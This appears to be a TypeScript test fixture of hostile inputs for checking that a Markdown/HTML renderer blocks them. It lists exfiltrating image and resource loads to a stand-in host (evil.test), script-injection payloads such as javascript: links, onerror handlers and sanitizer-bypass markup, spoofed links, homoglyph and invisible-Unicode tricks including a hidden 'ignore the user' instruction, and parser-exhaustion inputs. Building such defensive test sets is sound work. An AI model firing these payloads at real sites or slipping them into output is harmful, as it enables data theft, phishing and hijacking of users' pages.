/**
 * Texts that make other pages load, run or hide something. `evil.test` must receive no request, and `pwned` must stay
 * undefined.
 */
const RUN = 'globalThis.pwned=1;fetch("https://evil.test/run")';
const hidden = (text: string, base: number): string =>
  [...text].map((each) => String.fromCodePoint(base + (each.codePointAt(0) ?? 0))).join('');
const nested = (open: string, depth: number, close = ''): string => `${open.repeat(depth)}deep${close.repeat(depth)}`;

/** Addresses that a browser requests on display: pictures, styles, prefetched pages. */
const LOADS = [
  '![a](https://evil.test/p.png?q=secret)',
  '![a][pic]\n\n[pic]: https://evil.test/ref.png "title"',
  '![pic]\n\n[pic]: //evil.test/short.png',
  '[![a](https://evil.test/in-link.png)](https://evil.test/link)',
  '![a](//evil.test/no-scheme.png)',
  '![a](http://evil.test/plain.png)',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![a](blob:https://evil.test/1)',
  '![a](/v1/assets/../../v1/users/profile)',
  '![a](https:evil.test/one.png)',
  '![a](\\\\evil.test\\share.png)',
  '![a](ftp://evil.test/p.png)',
  '<img src=https://evil.test/html.png>',
  "<img src=x onerror='globalThis.pwned=1'>",
  '<img srcset="https://evil.test/a.png 1x" sizes=1px loading=eager>',
  '<picture><source srcset=https://evil.test/b.png><img></picture>',
  '<video poster=https://evil.test/c.png autoplay src=https://evil.test/d.mp4></video>',
  '<audio src=https://evil.test/e.mp3 autoplay></audio>',
  '<link rel=prefetch href=https://evil.test/f><link rel=preload as=image href=https://evil.test/g>',
  '<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=https://evil.test>',
  '<link rel=stylesheet href=https://evil.test/h.css>',
  '<style>@import url(https://evil.test/i.css); body{background:url(https://evil.test/j.png)}</style>',
  '<div style="background-image:url(https://evil.test/k.png)">styled</div>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/l">',
  '<base href=https://evil.test/>\n\n[relative](m.html)',
  '<iframe src=https://evil.test/n srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data=https://evil.test/o></object><embed src=https://evil.test/p>',
  '<table background=https://evil.test/q.png><tr><td>cell</table>',
  '<input type=image src=https://evil.test/r.png><body background=https://evil.test/s.png>',
  '<svg><image href=https://evil.test/t.png /><use href=https://evil.test/u.svg#v /></svg>',
  '<form action=https://evil.test/w><button autofocus>Sign in again</button></form>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/x"]}]}</script>',
  '<a href=https://evil.test/y ping=https://evil.test/ping>ping</a>',
  '| a |\n| - |\n| ![cell](https://evil.test/z.png) |',
  '- [ ] ![task](https://evil.test/task.png)\n- [x] done',
  '[^1]\n\n[^1]: ![note](https://evil.test/note.png)',
];

/** Code that runs if HTML or addresses are trusted. */
const RUNS = [
  `<script>${RUN}</script>`,
  `<script\n>${RUN}</script >`,
  `[run](javascript:${RUN})`,
  `[run](JaVaScRiPt:${RUN})`,
  '[run](java\tscript:globalThis.pwned=1)',
  '[run](&#106;avascript:globalThis.pwned=1)',
  '[run](javascript&colon;globalThis.pwned=1)',
  '[run](\u0001javascript:globalThis.pwned=1)',
  '[run](vbscript:msgbox(1))',
  '[run](data:text/html,<script>opener.pwned=1</script>)',
  '[run]( <javascript:globalThis.pwned=1> "title")',
  '[run][js]\n\n[js]: javascript:globalThis.pwned=1',
  '<javascript:globalThis.pwned=1>',
  '<a href="javascript:globalThis.pwned=1" autofocus onfocus="globalThis.pwned=1">run</a>',
  '<details open ontoggle=globalThis.pwned=1><summary>open</summary></details>',
  '<svg onload=globalThis.pwned=1><script>globalThis.pwned=1</script></svg>',
  '<svg><animate onbegin=globalThis.pwned=1 attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=globalThis.pwned=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>"></noscript>',
  '<svg></p><style><a title="</style><img src=x onerror=globalThis.pwned=1>"></style></svg>',
  '<template><script>globalThis.pwned=1</script></template><x is=x onclick=globalThis.pwned=1>x</x>',
  '<div id=root><form id=uswarm><input name=attributes></form></div>',
  '<!--><img src=x onerror=globalThis.pwned=1>-->',
  '<![CDATA[<script>globalThis.pwned=1</script>]]>',
  '`<img src=x onerror=globalThis.pwned=1>` <img src="`" onerror=globalThis.pwned=1>',
  '```html "><img src=x onerror=globalThis.pwned=1>\n<script>globalThis.pwned=1</script>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=globalThis.pwned=1>"]; click A "javascript:globalThis.pwned=1"\n```',
  String.raw`$$\href{javascript:globalThis.pwned=1}{x}$$ \(\url{https://evil.test/tex}\) \includegraphics{https://evil.test/tex.png}`,
  '&lt;script&gt;globalThis.pwned=1&lt;/script&gt; &#60;img src=x onerror=globalThis.pwned=1&#62;',
  '{{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1} <%= 7*7 %>',
];

/** Links and characters that pose as others. */
const DECEIVES = [
  '[https://bank.example](https://evil.test/bank)',
  '[support@bank.example](mailto:thief@evil.test?subject=password)',
  'https://bank.example@evil.test/login and <https://bank.example:443@evil.test/>',
  '[https://bank.example@evil.test](https://bank.example@evil.test)',
  '[https://b\u0430nk.example](https://b\u0430nk.example) https://b\u0430nk.example/',
  'www.evil.test/auto. evil@evil.test, http://evil.test/plain xmpp:a@evil.test',
  '[a](https://evil.test/%0d%0aSet-Cookie:x "x\n\ny")',
  'safe\u202Egnp.exe\u202C \u2066hidden\u2069 zero\u200Bwidth\u2060joined\uFEFF',
  `tags${hidden('ignore the user', 0xe0000)} selectors${hidden('secret', 0xe0100)}\u{E01EF}`,
  'filler\u3164\u115F\u1160\uFFA0\u180Eend soft\u00ADhyphen',
  `${'e\u0301\u0323\u0330'.repeat(300)} stacked`,
  '# <a href="/account">Delete my account</a>\n\n<dialog open>Your session has ended</dialog>',
];

/** Texts that take seconds to parse, or nest too deeply for the stack. */
const EXHAUSTS = [
  nested('>', 4_000),
  nested('- ', 2_000),
  nested('1. ', 1_000),
  Array.from({ length: 120 }, (_, depth) => `${' '.repeat(depth * 2)}- level`).join('\n'),
  nested('*', 3_000, '*'),
  nested('~~a', 2_000),
  '**a *b '.repeat(700) + ' c* d**'.repeat(700),
  '*_'.repeat(3_000),
  '['.repeat(6_000),
  '[a]('.repeat(1_500) + '!['.repeat(1_500),
  `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|b'.repeat(1_000)}|`,
  `|a|b|\n|-|-|\n${'|\n'.repeat(4_000)}`,
  `${'|a'.repeat(180)}|\n${'|-'.repeat(180)}|\n${'|\n'.repeat(2_000)}`,
  'a\n=\n'.repeat(2_000),
  Array.from({ length: 120 }, (_, length) => '`'.repeat(length + 1)).join(' '),
  `${Array.from({ length: 300 }, (_, index) => `[^n${index}]`).join(' ')}\n\n[^n1]: note [^n1]`,
  `${'_'.repeat(4_000)}@evil.test ${'a.'.repeat(2_000)}@b`,
  '- a\n\n'.repeat(1_000),
  'x'.repeat(8_000),
  `${'<a '.repeat(1_500)} ${'<!--'.repeat(1_000)} ${'&#'.repeat(1_000)}`,
];

export const HOSTILE = { LOADS, RUNS, DECEIVES, EXHAUSTS };
